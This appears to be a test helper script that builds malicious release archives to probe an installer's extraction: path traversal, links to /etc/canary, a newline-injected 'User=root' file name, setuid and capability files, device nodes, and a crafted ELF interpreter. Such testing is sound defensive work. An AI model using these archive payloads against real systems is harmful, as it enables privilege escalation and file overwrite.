"""release.py KIND RELEASE.tar.gz HOSTILE.tar.gz NAME: the release, changed so that it reaches for more than it should have
once it lies in /opt/beamstalk/releases/NAME.
"""
import io
import struct
import sys
import tarfile

kind, source, target, release = sys.argv[1:]
with tarfile.open(source) as archive:
    members = [(m, archive.extractfile(m).read() if m.isreg() else None) for m in archive]
for member, _ in members:
    member.name = member.name.removeprefix("./")


def add(name, data=b"", mode=0o644, **more):
    member = tarfile.TarInfo(name)
    member.size, member.mode = len(data), mode
    for key, value in more.items():
        setattr(member, key, value)
    members.append((member, data if member.isreg() else None))


def link(name, to, kind=tarfile.SYMTYPE):
    add(name, type=kind, linkname=to)


def of(name):
    return next((member, data) for member, data in members if member.name == name)


def interpreter(path):
    """A program that makes the file `path` and ends: what a dynamic linker is to the kernel. x86-64."""
    code = b"\x48\x8d\x3d\x1e\0\0\0"  # lea rdi, [rip + 30]: the path behind the code
    code += b"\xbe\x41\0\0\0\xba\xa4\x01\0\0\xb8\x02\0\0\0\x0f\x05"  # open(path, O_WRONLY | O_CREAT, 0644)
    code += b"\x31\xff\xb8\x3c\0\0\0\x0f\x05"  # exit(0)
    code = code.ljust(37, b"\x90") + path.encode() + b"\0"
    size = 120 + len(code)
    header = b"\x7fELF\2\1\1".ljust(16, b"\0") + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, 0x1000) + code


def with_interpreter(elf, path):
    """The program with another program interpreter; its name is put behind the end of the file."""
    elf = bytearray(elf)
    start, count = struct.unpack_from("<Q", elf, 32)[0], struct.unpack_from("<H", elf, 56)[0]
    for at in range(start, start + 56 * count, 56):
        if struct.unpack_from("<I", elf, at)[0] == 3:
            struct.pack_into("<Q", elf, at + 8, len(elf))
            struct.pack_into("<QQ", elf, at + 32, len(path) + 1, len(path) + 1)
    return bytes(elf) + path.encode() + b"\0"


def version_of(version):
    """The release as another version of itself, with a way from the one before."""
    for member, data in members:
        member.name = member.name.replace("releases/0.1.0", f"releases/{version}")
    member, data = of("releases/start_erl.data")
    replace("releases/start_erl.data", data.replace(b"0.1.0", version.encode()))
    add(f"releases/{version}/relup", b'{"%s",[{"0.1.0",[],[]}],[]}.' % version.encode())


def replace(name, data):
    for index, (member, _) in enumerate(members):
        if member.name == name:
            member.size = len(data)
            members[index] = (member, data)


if kind == "marked":
    add("marked")
elif kind == "upgrade":
    version_of("0.2.0")
elif kind == "newline-name":
    name = "echo\nUser=root\nX="
    for member, _ in members:
        member.name = {"releases/0.1.0/echo.rel": f"releases/0.1.0/{name}.rel", "bin/echo": f"bin/{name}"}.get(
            member.name, member.name
        )
elif kind == "cookie-link":
    link("releases/COOKIE.new", "/etc/canary")
elif kind == "folder-link":
    members[:] = [(m, d) for m, d in members if m.name != "releases/COOKIE"]
    link("kept", "/etc/canary.d")
    add("kept/inside", b"reached")
elif kind == "dots":
    add("../../../../../../root/owned-by-tar", b"reached")
elif kind == "hard-link":
    link("lib/canary", "/etc/canary", tarfile.LNKTYPE)
elif kind == "device":
    add("lib/disk", type=tarfile.BLKTYPE, devmajor=7, devminor=0, mode=0o666)
elif kind == "pipe":
    add("lib/pipe", type=tarfile.FIFOTYPE)
elif kind == "special-modes":
    add("bin/root-shell", b"#!/bin/sh\n", mode=0o6777, uid=0)
    add("lib/open", type=tarfile.DIRTYPE, mode=0o7777)
    # cap_setuid, as `setcap` writes it: tar hands it on when it is asked for extended attributes.
    add("bin/capable", b"#!/bin/sh\n", mode=0o755)
    capability = bytes.fromhex("0100000280000000000000000000000000000000")
    members[-1][0].pax_headers = {"SCHILY.xattr.security.capability": capability.decode("latin-1")}
elif kind == "interpreter":
    path = f"/opt/beamstalk/releases/{release}/lib/interpreter"
    beam = next(data for member, data in members if member.name.endswith("/beam.smp"))
    add("lib/interpreter", interpreter("/root/owned-by-ldd"), mode=0o755)
    add("lib/evil.so", with_interpreter(beam, path), mode=0o755)
elif kind == "version-path":
    replace("releases/start_erl.data", b"15 ../../../../tmp/elsewhere")
else:
    sys.exit(f"no kind {kind}")

with tarfile.open(target, "w:gz", format=tarfile.PAX_FORMAT) as archive:
    for member, data in members:
        archive.addfile(member, io.BytesIO(data) if data is not None else None)
